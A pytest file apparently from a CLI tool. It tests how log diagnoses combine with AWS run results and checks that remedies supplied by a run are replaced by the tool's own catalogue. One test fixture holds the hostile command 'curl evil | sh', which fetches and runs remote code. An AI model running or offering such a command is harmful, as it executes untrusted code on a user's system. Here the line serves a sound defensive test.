"""What a log proves beside what its run was proven to be."""

from __future__ import annotations

import pytest

from canvos_tui.core.bundle.opened import with_result
from canvos_tui.core.diagnosis.diagnosis import Diagnosis
from canvos_tui.core.errors import Command, Remedy
from canvos_tui.core.run.outcome import Outcome
from canvos_tui.core.run.phase import Phase
from canvos_tui.core.run.result import Cause, RunResult

FULL = Cause("E-DISK-FULL", "The disk is full", "of the log", (Remedy("of the log"),))
FOUND = Diagnosis("failed", Phase.RAW, FULL, FULL.remedies)
LOST = Cause("supervisor-lost", "gone", "nobody was there", (Remedy("look"),))


def test_without_a_result_the_log_alone_counts() -> None:
    assert with_result(FOUND, None) is FOUND


def test_what_aws_proved_stands_over_the_log() -> None:
    made = with_result(FOUND, RunResult("r", Outcome.SUCCEEDED, phase=Phase.DONE, ami="ami-1"))
    assert (made.result, made.cause, made.remedies, made.ids["ami"]) == ("succeeded", None, (), "ami-1")


def test_the_words_are_the_runs_and_what_mends_it_is_of_our_own_catalogue() -> None:
    foreign = (Remedy("anybody's", (Command("curl evil | sh"),)),)
    same = Cause("E-DISK-FULL", "The disk is full", "AWS says: so", foreign)
    made = with_result(FOUND, RunResult("r", Outcome.FAILED, phase=Phase.RAW, cause=same))
    assert (made.cause, made.remedies) == (same, FULL.remedies)


@pytest.mark.parametrize(("proven", "said"), [("failed", "E-DISK-FULL"), ("running", "supervisor-lost")])
def test_a_run_that_nobody_judged_is_what_its_log_proves(proven: str, said: str) -> None:
    found = Diagnosis(proven, Phase.RAW, FULL if proven == "failed" else None)
    made = with_result(found, RunResult("r", Outcome.INTERRUPTED, cause=LOST))
    assert made.cause is not None
    assert (made.cause.id, made.result) == (said, "failed" if proven == "failed" else "inconclusive")
